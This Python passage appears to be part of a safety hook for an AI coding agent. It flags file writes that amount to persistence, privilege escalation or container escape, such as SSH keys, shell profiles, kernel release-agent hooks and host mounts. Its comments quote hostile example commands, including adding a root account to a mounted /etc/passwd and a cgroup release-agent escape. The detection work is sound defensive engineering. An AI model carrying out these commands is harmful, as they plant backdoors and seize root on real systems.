    # by the dynamic loader (ld.so.conf.d/libc.conf, dyld's fallback), so a library there is loaded by
    # every program linking that name: a library install (sudo make install), asked about.
    (r"/usr/local/lib(?:32|64)?/(?:[^/]+-linux-gnu[^/]*/)?[^/]+\.(?:so(?:\.[0-9]+)*|dylib)", SUDO_INSTALL,
     "a shared library where the dynamic loader looks: every program linking that name loads it"),
    # The system Python's own modules and packages (the standard library, dist-packages, site-packages):
    # every Python program on the machine imports them by name, root's jobs and the sudo rules' scripts
    # included, so a module written there is code planted for them. Only the package manager and
    # ``sudo pip install`` (asked as such) write there; a virtual environment or ~/.local is not this, nor
    # /usr/local/lib/pythonX/site-packages (the user's own prefix: Homebrew's Python on Intel Macs).
    # A .pth or sitecustomize runs at every start: the start-up rows above, blocked.
    (r"/usr/lib(?:32|64)?/python[0-9.]*/.+|/usr/local/lib/python[0-9.]*/dist-packages/.+", SUDO_INSTALL,
     "the system Python's modules: every Python program (root's included) imports code written here"),
    (r"/(?:usr/)?lib(?:32|64|x32)?/(?!python[0-9.]*/).+", SYSTEM_FILES,
     "the system's libraries and the helpers its services run (/lib/udev/*: udev runs them as root)"),
)  # fmt: skip
"""(pattern, category, what the place is): see the module docstring for the pattern's form."""

# Case-insensitive: on macOS (and Windows) ~/.ZSHRC is ~/.zshrc.
_TABLE = lazy_compile(
    "|".join(f"(?P<row{index}>{pattern})" for index, (pattern, _, _) in enumerate(ROWS)), re.IGNORECASE
)
_AUTHORIZED_KEYS = lazy_compile(r"(?:^|/)\.ssh/authorized_keys[^/]*$", re.IGNORECASE)
_ANYWHERE = (STEALTH_PERSISTENCE, "SSH authorized keys: writing one grants a login")
_GIT_COMMONDIR = lazy_compile(r"(?:^|/)\.git/commondir$")
_HOMES = lazy_compile(r"^(?:/home/[^/]+|/Users/(?!Shared(?:/|$))[^/]+|/root|/var/root)(?=/|$)", re.IGNORECASE)
"""Account homes; macOS's ``/Users/Shared`` is every account's drop box, no one's home."""


_PROFILE_NAME = lazy_compile(
    r"/\.(?:bashrc|bash_profile|bash_login|bash_logout|profile|zshrc|zshenv|zprofile|zlogin)$"
)
_PROFILE_ANYWHERE = (
    "a shell start-up file, in a directory named at run time (a home a loop or variable picks)"
)


def location(path: str, *, home: str | None = None, cwd: str | None = None) -> tuple[str, str] | None:
    """``(category, what the place is)`` if writing or deleting ``path`` is a tactic, else None.

    ``path`` is resolved like the file system would (``~``, ``$HOME``, ``..``,
    ``cwd`` for a relative path); a path that stays relative is the project's.
    """
    if not path:
        return None
    if _PROCESS_ROOT.match(path):  # resolved, /proc/1/root/var/tmp/x is /var/tmp/x: seen before that
        return PRIVILEGE, _PROCESS_ROOT_WHAT
    home = home or normalize_path("~")
    normalized = normalize_path(path, home=home, cwd=cwd)
    if not normalized.startswith("/"):
        # ssh host 'cat >> .ssh/authorized_keys': a key for a login, wherever the directory is.
        if _GIT_COMMONDIR.search(normalized):  # echo DIR > .git/commondir: this repository's, wherever
            return STEALTH_PERSISTENCE, _COMMONDIR_WHAT
        if normalized.startswith("$") and _KERNEL_HOOK.search(normalized):
            return PRIVILEGE, _KERNEL_HOOK_WHAT  # echo "$t/c" > "$d/release_agent": d found at run time
        if normalized.startswith("$") and normalized.endswith("/cgroup.procs"):
            return SYSTEM_CONFIG, _CGROUP_PROCS_WHAT  # echo 0 > $d/w/cgroup.procs: the escape's trigger
        if normalized.startswith("$") and _PROFILE_NAME.search(normalized):
            return PROFILE, _PROFILE_ANYWHERE  # echo "$cmd" >> "$user/.bashrc": every home of a loop
        return _ANYWHERE if _AUTHORIZED_KEYS.search(normalized) else None
    if normalized.startswith(("/private/etc/", "/private/var/")):
        normalized = normalized[len("/private") :]  # macOS: /etc and /var live in /private
    home = home.rstrip("/")
    if home and (normalized.lower() == home.lower() or normalized.lower().startswith(home.lower() + "/")):
        keyed = "~" + normalized[len(home) :]
    else:
        keyed = _HOMES.sub("~", normalized, count=1)
    match = _TABLE.fullmatch(keyed)
    hosts = host_dir_path(normalized) if match is None else None
    inner = location(hosts, home=home, cwd="/") if hosts else None
    if inner is not None:  # /host-etc/cron.d/x: the host's /etc, given to a container at /host-etc
        return inner[0], f"{inner[1]}, of the host's system directory mounted at {normalized}"
    if match is None:
        return (
            _mounted_root(normalized, home=home, cwd=cwd)
            or _claude_shell_state(normalized)
            or _other_workspace(normalized, cwd)
        )
    _, category, what = ROWS[int((match.lastgroup or "row0")[3:])]
    return category, what


_KERNEL_HOOK = lazy_compile(r"/(?:release_agent|notify_on_release|uevent_helper|core_pattern)$")
_KERNEL_HOOK_WHAT = (
    "a kernel hook by its name (a cgroup's release agent, uevent_helper, core_pattern) in a directory "
    "found at run time: a program the host's kernel runs as root (the container escape)"
)

PROCESS_ROOT = lazy_compile(r"^/proc/(?:[0-9]+|\$\{?\w+\}?)/root/")
"""Another process's root directory (``/proc/1/root/``): with the host's process namespace, pid 1's is the
host's root file system, whatever the container's own."""
_PROCESS_ROOT = PROCESS_ROOT
_PROCESS_ROOT_WHAT = (
    "a file in another process's root file system (pid 1's: the host's, from a container that shares its "
    "processes): written from outside it"
)
_CGROUP_PROCS_WHAT = (
    "a cgroup's process list in a directory found at run time: a process moved into a cgroup the command "
    "found (the release-agent escape's trigger)"
)


def _mounted_root(normalized: str, *, home: str, cwd: str | None) -> tuple[str, str] | None:
    """``echo 'toor:…:0:0::/root:/bin/sh' >> /mnt/etc/passwd``: a system path of another root file system
    mounted here, judged as that path is (not when the agent works inside that tree: a WSL ``/mnt/c``)."""
    top = mounted_root(normalized, cwd)
    inner = location(normalized[len(top) :], home=home, cwd="/") if top is not None else None
    if inner is None:
        return None
    return inner[0], f"{inner[1]}, of the root file system mounted at {top}"


_TOP_LEVEL = lazy_compile(
    r"^/(?!(?:bin|boot|dev|etc|home|lib|lib32|lib64|libx32|media|mnt|opt|proc|root|run|sbin|srv|sys|tmp|usr"
    r"|var|snap|nix|Users|Applications|Library|System|Volumes|private|cores|workspaces?|app|src|code|data"
    r"|projects?|build|out|output|dist|cache|scratch|work|swapfile|swap\.img)$)[^/]+$",
    re.IGNORECASE,
)
_TOP_LEVEL_WHAT = (
    "a file at the top of the file system, where no project lives (a container escape's payload spot: "
    "the host runs it through the overlay's directory)"
)


def top_level_file(normalized: str) -> tuple[str, str] | None:
    """``echo '#!/bin/sh' > /cmd``: a file written in ``/`` itself, beside the system's own directories.
    Only for a sure write (a redirection): a program's operand ``/w`` is as often a container's path."""
    return (SYSTEM_CONFIG, _TOP_LEVEL_WHAT) if _TOP_LEVEL.match(normalized) else None


_WORKSPACE_TASKS = lazy_compile(r"/\.vscode/tasks\.json$", re.IGNORECASE)
_WORKSPACE_TASKS_WHAT = (
    "another folder's editor tasks: VS Code runs a task marked runOn folderOpen as soon as that folder "
    "is opened"
)


def _other_workspace(normalized: str, cwd: str | None) -> tuple[str, str] | None:
    """``.vscode/tasks.json`` of a folder outside the working directory: the project's own tasks are
    its developer's; another folder's run the moment someone opens it (a planted folderOpen task)."""
    if not _WORKSPACE_TASKS.search(normalized):
        return None
    if cwd is not None:
        base = normalize_path(cwd).rstrip("/")
        if base and (normalized.startswith(base + "/") or normalized == base):
            return None
    return PROFILE, _WORKSPACE_TASKS_WHAT


def _claude_shell_state(normalized: str) -> tuple[str, str] | None:
    """The shell snapshots and session environments under ``$CLAUDE_CONFIG_DIR``, where Claude Code
    keeps them (not in ~/.claude) when the variable is set; the hook sees Claude Code's environment."""
    chosen = os.environ.get("CLAUDE_CONFIG_DIR")
    if not chosen:
        return None
    base = normalize_path(chosen).rstrip("/").lower()
    if not base.startswith("/"):
        return None
    path = normalized.lower()
    for name in ("shell-snapshots", "session-env"):
        if path == f"{base}/{name}" or path.startswith(f"{base}/{name}/"):
            return STEALTH_PERSISTENCE, _CLAUDE_SHELL_STATE
    return None


def written(value: str, *, home: str, cwd: str | None) -> tuple[str, str] | None:
    """``(category, description)`` if writing or deleting ``value`` is dangerous, else None.

    A location of the table (``~/.bashrc, a shell start-up file``), else a
    system file (``/etc/passwd``, :data:`~.verdict.SYSTEM_FILES`), else any other
    file under ``/etc`` (:data:`~.verdict.SYSTEM_CONFIG`, asked: ``/etc/locale.gen``,
    ``/etc/apt/sources.list.d/x.list``). What every rule that knows what a program
    writes asks about the file it writes.
    """
    found = location(value, home=home, cwd=cwd)
    if found is not None:
        category, what = found
        shown = display_path(normalize_path(value, home=home, cwd=cwd), home=home)
        return category, f"{shown}, {what}"
    path = system_file(value, home=home, cwd=cwd)
    if path is not None:
        return SYSTEM_FILES, path
    normalized = normalize_path(value, home=home, cwd=cwd)
    if normalized.startswith(("/etc/", "/private/etc/")) and normalized.rstrip("/") not in (
        "/etc",
        "/private/etc",
    ):
        return SYSTEM_CONFIG, f"{normalized}, in the machine's configuration"
    if normalized.startswith(("/proc/sys/", "/sys/")):
        # echo 0 > /proc/sys/kernel/nmi_watchdog is sysctl by another name (miners turn the watchdog off)
        return SYSTEM_CONFIG, f"{normalized}, a kernel setting"
    return None
